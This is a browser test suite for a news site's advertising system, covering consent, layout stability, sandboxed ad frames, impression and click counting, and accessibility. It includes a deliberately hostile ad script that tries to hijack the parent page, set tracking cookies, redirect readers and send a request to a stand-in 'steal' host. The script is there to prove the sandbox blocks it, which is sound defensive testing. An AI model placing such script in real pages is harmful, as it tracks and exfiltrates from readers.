// Advertising as a reader meets it: named as such, holding still, asking nobody, and kept in its frame.

import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { HtmlValidate } from "html-validate";
import { eventually, openBrowser, openPaper } from "../paper.mjs";

const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js");
const exchange = "https://ads.exchange.example";
// Programs do not count as readers, and headless browsers say that they are programs.
const userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";

// A third party's script that does what it should not.
const hostile = `
  const tried = {};
  const attempt = (name, what) => { try { what(); tried[name] = "done"; } catch (e) { tried[name] = e.name; } };
  attempt("title", () => { parent.document.title = "taken"; });
  attempt("cookie", () => { document.cookie = "tracked=1"; });
  attempt("storage", () => { localStorage.setItem("tracked", "1"); });
  attempt("leave", () => { top.location = "https://elsewhere.example/"; });
  fetch("https://elsewhere.example/steal").catch(() => {});
  fetch("/api/ad", { method: "POST", body: "tea side" }).catch(() => {});
  document.body.dataset.tried = JSON.stringify(tried);`;

const advertisements = (demo) => {
  mkdirSync(join(demo, "ads"), { recursive: true });
  writeFileSync(join(demo, "ads/tag.html"), `<script src="${exchange}/tag.js"></script>`);
  writeFileSync(join(demo, "ads/boats.html"), `<p>Boats for hire</p><a href="{{click}}">Hire one</a>`);
  return `
[site.ads]
consent = "ask"

[[site.ads.ad]]
id = "paper"
slots = ["top"]
href = "/port-ellery"
text = "The Courier on paper, every Saturday"

[[site.ads.ad]]
id = "network"
slots = ["side"]
tag = "ads/tag.html"
hosts = ["ads.exchange.example"]
fallback = "tea"
width = 300
height = 250

[[site.ads.ad]]
id = "tea"
image = "ads/tea-house.jpg"
width = 300
height = 250
href = "https://tea-house.example/"
text = "Ellery Tea House"

[[site.ads.ad]]
id = "boats"
slots = ["body"]
html = "ads/boats.html"
width = 600
height = 120
href = "https://boats.example/hire"

`;
};

/** The demo's configuration with these in the place of its own. */
const change = (text, demo) => {
  const from = text.indexOf("[site.ads]"), until = text.indexOf("# The demo has few readers");
  assert.ok(from > 0 && until > from, "the demo's configuration is as this test knows it");
  return text.slice(0, from) + advertisements(demo) + text.slice(until);
};

let paper, browser, story, sensitive;
before(async () => {
  paper = await openPaper(change);
  browser = await openBrowser();
  const front = await (await fetch(paper.url)).text();
  const found = (words) => front.match(new RegExp(`href="(/[0-9]{4}/[^"]*${words}[^"]*)"`))?.[1];
  story = found("lady-maren");
  sensitive = found("earthquake");
  assert.ok(story && sensitive, "the front shows both stories");
});
after(async () => {
  await browser?.close();
  await paper?.close();
});

/** Opens an address as a reader with a window. Hosts that do not exist are answered here, and noted. */
async function open(address, options = {}) {
  const context = await browser.newContext({ userAgent, viewport: { width: 1280, height: 800 }, ...options });
  const strangers = [], seen = [];
  await context.route((url) => url.origin !== paper.url, (route) => {
    strangers.push(route.request().url());
    const script = route.request().url() === `${exchange}/tag.js`;
    return route.fulfill(script ? { contentType: "text/javascript", body: hostile } : { contentType: "text/html", body: "elsewhere" });
  });
  const page = await context.newPage();
  page.on("request", (r) => new URL(r.url()).pathname === "/api/ad" && seen.push(...(r.postData() ?? "").split("\n")));
  await page.goto(paper.url + address, { waitUntil: "load" });
  return { context, page, strangers, seen };
}

const frameOf = (page) => page.frames().find((frame) => frame.url().includes("/ad/network"));

test("an advertisement is called one in the accessibility tree, and so is its frame", async () => {
  const { context, page } = await open(story);
  for (const name of ["Advertisement", "Advertisement, side column", "Advertisement, after the text"]) {
    const box = page.getByRole("complementary", { name, exact: true });
    assert.equal(await box.count(), 1, name);
    assert.match(await box.innerText(), /^Advertisement/, "the label is to be seen too");
  }
  assert.equal(await page.locator('iframe[title="Advertisement"]').count(), 2);
  await context.close();
});

test("nothing moves, with advertisements and without, also while they come in", async () => {
  for (const [address, boxes] of [[story, 3], [sensitive, 0], ["/", 2]]) {
    for (const width of [1280, 390]) {
      const { context, page } = await open("/privacy", { viewport: { width, height: 800 } });
      await page.addInitScript(() => {
        globalThis.shift = 0;
        new PerformanceObserver((list) => {
          for (const entry of list.getEntries()) globalThis.shift += entry.value;
        }).observe({ type: "layout-shift", buffered: true });
      });
      await page.goto(paper.url + address, { waitUntil: "load" });
      assert.equal(await page.locator(".ad").count(), boxes, address);
      const height = await page.evaluate(() => document.documentElement.scrollHeight);
      for (let y = 0; y < height; y += 600) {
        await page.evaluate((to) => scrollTo({ top: to, behavior: "instant" }), y);
        await page.waitForTimeout(60);
      }
      await page.waitForLoadState("networkidle");
      assert.equal(await page.evaluate(() => globalThis.shift), 0, `${address} at ${width} px`);
      assert.equal(await page.evaluate(() => document.documentElement.scrollHeight), height, "the page is as high as before");
      await context.close();
    }
  }
});

test("beside a story of a disaster there is no box, no frame and no script", async () => {
  const { context, page } = await open(sensitive);
  assert.equal(await page.locator(".ad, iframe").count(), 0);
  await context.close();
});

test("nobody else is asked for anything before a reader agrees, nor after he refuses", async () => {
  const { context, page, strangers } = await open(story);
  await frameOf(page).waitForLoadState();
  assert.match(await frameOf(page).locator("img").getAttribute("alt"), /Ellery Tea House/);
  await eventually("its picture is shown, though the frame has no origin", () =>
    frameOf(page).locator("img").evaluate((img) => img.naturalWidth === 600));
  assert.deepEqual(strangers, []);
  assert.deepEqual(await context.cookies(), [], "no cookie is set before");

  const weights = await page.locator(".consent button").evaluateAll((both) =>
    both.map((b) => [getComputedStyle(b).backgroundColor, getComputedStyle(b).color, b.offsetWidth, b.offsetHeight].join()));
  assert.equal(weights.length, 2);
  assert.equal(weights[0], weights[1], "both answers weigh the same");
  await page.getByRole("button", { name: "Refuse" }).click();
  await page.waitForLoadState();
  assert.equal(page.url(), paper.url + story, "back on the same page");
  assert.equal(await page.locator(".consent").count(), 0, "and not asked again");
  assert.deepEqual(strangers, []);

  await page.goto(`${paper.url}/privacy`);
  assert.match(await page.getByRole("status").innerText(), /refused/);
  await page.getByRole("button", { name: "Accept" }).click();
  await page.waitForLoadState();
  assert.match(await page.getByRole("status").innerText(), /accepted/);
  assert.deepEqual(strangers, []);
  await page.goto(paper.url + story);
  await eventually("the tag is asked for", () => strangers.includes(`${exchange}/tag.js`));
  await context.close();
});

test("the choice can be made without JavaScript", async () => {
  const { context, page, strangers } = await open(story, { javaScriptEnabled: false });
  await page.getByRole("button", { name: "Accept" }).click();
  await page.waitForLoadState();
  assert.equal(page.url(), paper.url + story);
  await eventually("the tag is asked for", async () => (await context.cookies()).some((c) => c.value === "accept"));
  assert.deepEqual(strangers.filter((url) => !url.startsWith(exchange)), []);
  await context.close();
});

test("a hostile tag cannot touch the page, leave it, or ask others", async () => {
  const { context, page, strangers, seen } = await open("/privacy");
  await page.getByRole("button", { name: "Accept" }).click();
  await page.goto(paper.url + story);
  const title = await page.title();
  await eventually("the tag has run", async () => ((await frameOf(page)?.locator("body").getAttribute("data-tried")) ?? null) !== null);
  const tried = JSON.parse(await frameOf(page).locator("body").getAttribute("data-tried"));
  assert.deepEqual([tried.title, tried.cookie, tried.storage], ["SecurityError", "SecurityError", "SecurityError"]);
  await page.waitForTimeout(500);
  assert.equal(page.url(), paper.url + story);
  assert.equal(await page.title(), title);
  assert.deepEqual((await context.cookies()).map((c) => c.name), ["ads"]);
  assert.deepEqual(strangers, [`${exchange}/tag.js`], "and nobody but the exchange was asked");
  assert.ok(!seen.includes("tea side"), "it cannot say what was in view");
  await context.close();
});

/** Until the page's observers have seen how it stands now: they are told together, and this one is the last. */
const looked = (page) =>
  page.evaluate(() => new Promise((done) => {
    const eye = new IntersectionObserver(() => { eye.disconnect(); done(); });
    eye.observe(document.querySelector("h1"));
  }));

test("what is not in view is not counted, and what is, once, after a second", async () => {
  const { context, page, seen } = await open("/privacy");
  // Time is told to the page, not waited for.
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 3_600_000);
  const passes = async (ms) => {
    await looked(page);
    await page.clock.runFor(ms);
    await page.waitForTimeout(200);
  };
  await page.goto(paper.url + story, { waitUntil: "load" });
  await passes(900);
  assert.deepEqual(seen, [], "not yet a second");
  // Half a second more, as those of one moment are said together.
  await passes(700);
  assert.deepEqual(seen.toSorted(), ["network side", "paper top"]);
  await passes(5000);
  assert.equal(seen.length, 2, "the one after the text was not in view");
  const scroll = (to) => page.evaluate((to) => {
    const target = to && document.querySelector(to);
    target ? target.scrollIntoView({ behavior: "instant", block: "center" }) : scrollTo({ top: 0, behavior: "instant" });
  }, to);
  await scroll(".ad-body");
  await passes(900);
  await scroll("");
  await passes(5000);
  assert.equal(seen.length, 2, "it was there for less than a second");
  await scroll(".ad-body");
  await passes(1600);
  assert.deepEqual(seen.slice(2), ["boats body"]);
  const report = () => paper.run("ads", "report", "--json").trim().split("\n").filter(Boolean).map((line) => JSON.parse(line));
  await eventually("it is kept", () => report().some((row) => row.ad === "boats" && row.slot === "body" && row.impressions >= 1));
  assert.ok(report().some((row) => row.ad === "tea" && row.slot === "side"), "who did not agree saw what stands in");
  await context.close();
});

test("a click leads to the configured address and is counted", async () => {
  const { context, page } = await open(story);
  await page.locator(".ad-body").scrollIntoViewIfNeeded();
  const frame = page.frameLocator(".ad-body iframe");
  await frame.getByRole("link", { name: "Hire one" }).click();
  await page.waitForURL("https://boats.example/hire");
  await page.goto(paper.url + story);
  await page.locator(".ad-top a").click();
  await page.waitForURL(`${paper.url}/port-ellery`);
  // In the frame of a tag, what stands in for it opens beside the page.
  await page.goto(paper.url + story);
  const [beside] = await Promise.all([context.waitForEvent("page"), page.frameLocator(".ad-side iframe").getByRole("link").click()]);
  await beside.waitForURL("https://tea-house.example/");
  const clicks = () => {
    const rows = paper.run("ads", "report", "--json").trim().split("\n").map((line) => JSON.parse(line));
    return rows.filter((row) => row.clicks > 0).map((row) => `${row.ad} ${row.slot}`).toSorted().join();
  };
  await eventually("the clicks are kept", () => clicks() === "boats body,paper top,tea side");
  assert.match(paper.run("ads", "report"), /advertisement +slot +impressions +share of slot +clicks +per cent/);
  await context.close();
});

test("a story that the desk marks loses its advertisements at once", async () => {
  const boxes = async () => ((await (await fetch(paper.url + story)).text()).match(/<aside class="ad/g) ?? []).length;
  assert.equal(await boxes(), 3);
  paper.run("desk", "sensitive", story);
  await eventually("they are gone", async () => (await boxes()) === 0);
  paper.run("desk", "sensitive", story, "--off");
  await eventually("they are back", async () => (await boxes()) === 3);
});

test("pages with advertisements, their frames and the choice are valid HTML", async () => {
  const html = new HtmlValidate({
    extends: ["html-validate:standard"],
    // A frame's page has a style of its own, which its policy allows there.
    rules: { "void-style": "off", "no-trailing-whitespace": "off", "long-title": "off", "no-raw-characters": "off" },
  });
  for (const address of [story, "/", "/privacy", "/ad/boats?slot=body", "/ad/network?slot=side"]) {
    const text = await (await fetch(paper.url + address)).text();
    const report = await html.validateString(text);
    const said = report.results.flatMap((r) => r.messages.map((m) => `${address}:${m.line} ${m.ruleId}: ${m.message}`));
    assert.deepEqual(said, []);
  }
});

test("pages with advertisements, their frames and the choice have no accessibility violation", async () => {
  const run = async (page) => {
    await page.addScriptTag({ path: axe });
    const found = await page.evaluate(() => globalThis.axe.run());
    return found.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html).join("\n  ")}`);
  };
  for (const colorScheme of ["light", "dark"]) {
    for (const width of [1280, 390]) {
      for (const address of [story, "/", "/privacy"]) {
        const { context, page } = await open(address, { colorScheme, viewport: { width, height: 900 }, bypassCSP: true });
        assert.deepEqual({ address, colorScheme, width, said: await run(page) }, { address, colorScheme, width, said: [] });
        await context.close();
      }
    }
    // A frame's own policy lets no script run, not even this one: it is looked at as a page without one.
    for (const address of ["/ad/boats?slot=body", "/ad/network?slot=side"]) {
      const text = await (await fetch(paper.url + address)).text();
      const context = await browser.newContext({ colorScheme });
      const page = await context.newPage();
      await page.setContent(text);
      // What is asked of whole pages is not asked of frames: a heading, landmarks.
      const said = (await run(page)).filter((line) => !/^(landmark-one-main|page-has-heading-one|region):/.test(line));
      assert.deepEqual({ address, colorScheme, said }, { address, colorScheme, said: [] });
      await context.close();
    }
  }
});
